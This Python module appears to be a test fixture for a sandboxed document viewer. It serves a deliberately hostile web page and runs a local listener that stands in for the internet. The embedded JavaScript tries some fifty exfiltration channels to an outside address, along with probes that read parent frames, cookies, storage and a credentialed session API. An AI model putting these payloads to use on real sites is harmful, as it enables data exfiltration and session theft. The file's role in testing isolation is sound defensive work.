"""A deliverable that tries everything, and a world outside that notes who comes."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

REQUESTS = """
window.attacks = (() => {
  const hit = name => W + '/hit/' + name;
  const later = ms => new Promise(done => setTimeout(done, ms));
  const put = (tag, facts, inside) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(facts)) made.setAttribute(name, value);
    if (inside) made.append(inside);
    document.body.append(made);
    return made;
  };
  const link = (rel, name, facts = {}) => put('link', {rel, href: hit(name), ...facts});
  const code = name => `fetch('${hit(name)}', {mode: 'no-cors'}); new Image().src = '${hit(name)}';`;
  const page = name => '<script>' + code(name) + '</scr' + 'ipt>';
  // Reach into a frame of the own origin, and act from there.
  const through = async (src, name) => {
    const frame = put('iframe', {src});
    await Promise.race([new Promise(done => frame.onload = done), later(3000)]);
    const inner = frame.contentWindow;
    try { inner.eval(code(name)); } catch (e) {}
    const doc = frame.contentDocument;
    const script = doc.createElement('script');
    script.textContent = code(name);
    doc.documentElement.append(script);
    const image = doc.createElement('img');
    image.src = hit(name);
    doc.documentElement.append(image);
    const deeper = doc.createElement('iframe');
    deeper.src = hit(name);
    doc.documentElement.append(deeper);
    try { inner.fetch(hit(name), {mode: 'no-cors'}); } catch (e) {}
  };
  const click = facts => put('a', facts, 'x').click();
  const form = (name, method, target) => {
    const made = put('form', {action: hit(name), method, ...(target ? {target} : {})});
    made.append(document.createElement('input'));
    made.submit();
  };
  return {
    fetch: () => fetch(hit('fetch'), {mode: 'no-cors'}),
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', hit('xhr')); x.send(); },
    beacon: () => navigator.sendBeacon(hit('beacon'), 'x'),
    image: () => { new Image().src = hit('image'); },
    script: () => { put('script', {src: hit('script')}); },
    style: () => { link('stylesheet', 'style'); },
    import: () => { put('style', {}, `@import url("${hit('import')}");`); },
    background: () => { put('div', {style: `background:url(${hit('background')});width:9px;height:9px`}); },
    font: () => new FontFace('x', `url(${hit('font')})`).load(),
    film: () => { put('video', {src: hit('film'), autoplay: ''}); },
    frame: () => { put('iframe', {src: hit('frame')}); },
    object: () => { put('object', {data: hit('object')}); },
    embed: () => { put('embed', {src: hit('embed')}); },
    events: () => { new EventSource(hit('events')); },
    socket: () => { new WebSocket(hit('socket').replace('http', 'ws')); },
    prefetch: () => { link('prefetch', 'prefetch'); },
    preload: () => { link('preload', 'preload', {as: 'script'}); },
    modulepreload: () => { link('modulepreload', 'modulepreload'); },
    module: () => import(hit('module')),
    vector: () => { document.body.insertAdjacentHTML('beforeend', `<svg><image href="${hit('vector')}"/></svg>`); },
    ping: () => click({href: '#x', ping: hit('ping')}),
    popup: () => { window.open(hit('popup')); },
    blank: () => click({href: hit('blank'), target: '_blank'}),
    download: () => click({href: hit('download'), download: 'x'}),
    top: () => { top.location = hit('top'); },
    toplink: () => click({href: hit('toplink'), target: '_top'}),
    parent: () => { parent.location = hit('parent'); },
    post: () => { put('iframe', {name: 'into'}); form('post', 'post', 'into'); },
    search: () => { put('iframe', {name: 'onto'}); form('search', 'get', 'onto'); },
    base: () => { put('base', {href: hit('base') + '/'}); const i = new Image(); i.src = 'x'; i.onerror = () => {}; },
    srcdoc: () => { put('iframe', {srcdoc: page('srcdoc')}); },
    data: () => { put('iframe', {src: 'data:text/html,' + encodeURIComponent(page('data'))}); },
    blob: () => { put('iframe', {src: URL.createObjectURL(new Blob([page('blob')], {type: 'text/html'}))}); },
    worker: () => { new Worker(URL.createObjectURL(new Blob([code('worker').replace(/new Image.*/, '') +
      `;importScripts('${hit('worker')}')`]))); },
    ownworker: () => { new Worker('worker.js#' + hit('ownworker')); },
    shared: () => { new SharedWorker('worker.js#' + hit('shared')); },
    empty: () => through('about:blank', 'empty'),
    missing: () => through('/there-is-none', 'missing'),
    listing: () => through('/.worksample/files', 'listing'),
    unknown: () => through('/.worksample/unknown', 'unknown'),
    original: () => through('/.worksample/original?path=index.html', 'original'),
    text: () => through('/worker.js', 'text'),
    malformed: () => through('/.worksample/original?path=%FF', 'malformed'),
    wordy: () => through('/?' + 'x'.repeat(10000), 'wordy'),
    endless: () => through('/?' + 'x'.repeat(60000), 'endless'),
    nested: () => { put('iframe', {src: 'leave.html#' + hit('nested')}); },
    refresh: () => { put('iframe', {srcdoc: `<meta http-equiv="refresh" content="0;url=${hit('refresh')}">`}); },
    markup: () => { put('iframe', {src: 'style.xml'}); },
    speculation: () => { const s = document.createElement('script'); s.type = 'speculationrules';
      s.textContent = JSON.stringify({prefetch: [{urls: [hit('speculation')], eagerness: 'immediate'}]});
      document.body.append(s); },
    self: () => { location = hit('self'); },
  };
})();
"""
NAMES = tuple(
    line.strip().partition(":")[0]
    for line in REQUESTS.partition("return {\n")[2].splitlines()
    if line.startswith("    ") and line[4] != " " and "=>" in line
)
"""Of the attacks, in their order."""
ISOLATION = """
window.probes = (() => {
  const attempt = async f => { try { return 'LEAK ' + String(await f()).slice(0, 200); } catch (e) { return e.name; } };
  const shown = src => new Promise(done => {
    const i = new Image(); i.onload = () => done('LEAK'); i.onerror = () => done('blocked'); i.src = src; });
  return {
    parentdom: () => attempt(() => parent.document.body.innerHTML),
    topdom: () => attempt(() => top.document.title),
    topstorage: () => attempt(() => top.localStorage.length),
    otherpane: () => attempt(() => top.frames[1].frames[0].document.body.innerHTML),
    domain: () => attempt(() => { document.domain = 'ws.localhost'; return top.document.title; }),
    shareddomain: () => attempt(() => {
      document.domain = 'c.ws.localhost'; return top.frames[1].frames[0].document.title; }),
    cookie: () => (document.cookie.includes('ws=') ? 'LEAK ' + document.cookie : 'none'),
    api: () => attempt(async () => (await fetch(APP + '/api/v1/me', {credentials: 'include'})).text()),
    apiblind: () => attempt(async () => {
      const r = await fetch(APP + '/api/v1/me', {credentials: 'include', mode: 'no-cors'}); return r.type; }),
    write: () => attempt(async () => (await fetch(APP + '/api/v1/session', {method: 'DELETE', credentials: 'include',
      mode: 'cors'})).status),
    other: () => attempt(async () => (await fetch(OTHER + '/secret.txt')).text()),
    otherblind: () => attempt(async () => (await fetch(OTHER + '/secret.txt', {mode: 'no-cors'})).type),
    otherfiles: () => attempt(async () => (await fetch(OTHER + '/.worksample/files')).text()),
    otherpicture: () => shown(OTHER + '/p.png'),
    viewer: () => attempt(async () => (await fetch(VIEWER + '/')).text()),
    query: () => attempt(async () => { const r = await fetch('/.worksample/query', {method: 'POST',
      headers: {'content-type': 'application/json'}, body: JSON.stringify({path: ['x.db'], sql: 'SELECT 1'})});
      if (!r.ok) throw new DOMException('', 'Refused' + r.status); return r.status; }),
    service: () => attempt(async () => (await navigator.serviceWorker.register('/sw.js')).scope),
    otherstorage: () => (localStorage.getItem('mine') === null ? 'none' : 'LEAK'),
  };
})();
"""
WORKS = """
window.works = {
  module: async () => (await import('/lib/own.mjs')).answer === 42,
  inline: () => Function('return 7')() === 7,
  worker: () => new Promise((done, fail) => {
    const w = new Worker('/echo.js'); w.onmessage = e => done(e.data === 'echo');
    w.onerror = fail; w.postMessage('echo'); }),
  blobworker: () => new Promise((done, fail) => {
    const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    w.onmessage = e => done(e.data === 1); w.onerror = fail; }),
  wasm: async () => (await WebAssembly.instantiateStreaming(fetch('/add.wasm'))).instance.exports.f(2, 3) === 5,
  webgl: () => !!document.createElement('canvas').getContext('webgl2'),
  storage: () => { localStorage.setItem('mine', '1'); return localStorage.getItem('mine') === '1'; },
  database: () => new Promise((done, fail) => {
    const o = indexedDB.open('x'); o.onsuccess = () => done(true); o.onerror = fail; }),
  fetch: async () => (await (await fetch('data/own.json')).json()).own === true,
  submit: () => new Promise(done => {
    const form = document.createElement('form');
    form.innerHTML = '<button>x</button>';
    form.onsubmit = e => { e.preventDefault(); done(true); };
    document.body.append(form);
    form.querySelector('button').click(); }),
  frame: () => new Promise(done => {
    const f = document.createElement('iframe'); f.src = '/own.html';
    f.onload = () => done(f.contentDocument.body.textContent.trim() === 'own'); document.body.append(f); }),
  picture: () => new Promise((done, fail) => {
    const i = new Image(); i.onload = () => done(i.naturalWidth === 40); i.onerror = fail; i.src = '/p.png'; }),
};
"""
ADD = bytes.fromhex("0061736d0100000001070160027f7f017f03020100070501016600000a09010700200020016a0b")


def site(outside: str) -> dict[str, bytes | str]:
    """The files of the hostile deliverable, that knows the address of the world."""
    from viewing.material import picture

    files: dict[str, bytes | str] = {
        "index.html": "<!doctype html><title>hostile</title><body>"
        + "".join(f"<script>{text}</script>" for text in (REQUESTS, ISOLATION, WORKS)),
        "worker.js": "fetch(location.hash.slice(1),{mode:'no-cors'});importScripts(location.hash.slice(1))",
        "style.xml": '<?xml-stylesheet type="text/css" href="WORLD/hit/markup"?><x/>',
        "leave.html": "<script>location = location.hash.slice(1)</script>",
        "sw.js": "onfetch = e => e.respondWith(new Response('<p>mine'))",
        "lib/own.mjs": "export const answer = 42",
        "echo.js": "onmessage = e => postMessage(e.data)",
        "add.wasm": ADD,
        "data/own.json": '{"own": true}',
        "own.html": "own",
        "p.png": picture("PNG"),
        "x.db": "x",
    }
    return {name: text.replace("WORLD", outside) if isinstance(text, str) else text for name, text in files.items()}


@dataclass
class World:
    """`hits`: names of attacks that came through; `asked`: every path; `packets`: over UDP; `met`: connections."""

    url: str = ""
    udp: int = 0
    asked: list[str] = field(default_factory=list)
    packets: list[bytes] = field(default_factory=list)
    met: int = 0

    @property
    def hits(self) -> set[str]:
        return {path.partition("?")[0].split("/")[2] for path in self.asked if path.startswith("/hit/")}


@contextmanager
def world() -> Iterator[World]:
    """An address of this machine that stands for the internet."""
    outside = World()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            outside.asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_HEAD = do_PUT = do_OPTIONS = do_PROPFIND = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    class Server(ThreadingHTTPServer):
        def process_request(self, request: Any, client_address: Any) -> None:
            outside.met += 1
            super().process_request(request, client_address)

        def handle_error(self, *_: Any) -> None:
            pass

    ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ear.bind(("127.0.0.1", 0))
    outside.udp = ear.getsockname()[1]

    def listen() -> None:
        while data := ear.recv(2048):
            outside.packets.append(data)

    server = Server(("127.0.0.1", 0), Handler)
    outside.url = f"http://127.0.0.1:{server.server_port}"
    threads = [threading.Thread(target=server.serve_forever), threading.Thread(target=listen)]
    for thread in threads:
        thread.start()
    try:
        yield outside
    finally:
        server.shutdown()
        server.server_close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"", ("127.0.0.1", outside.udp))
        for thread in threads:
            thread.join(10)
        ear.close()


@contextmanager
def unguarded(folder: Path) -> Iterator[str]:
    """The same files as any web server would give them out; its address."""

    class Handler(SimpleHTTPRequestHandler):
        def __init__(self, *args: Any) -> None:
            super().__init__(*args, directory=str(folder))

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://bare.localhost:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)
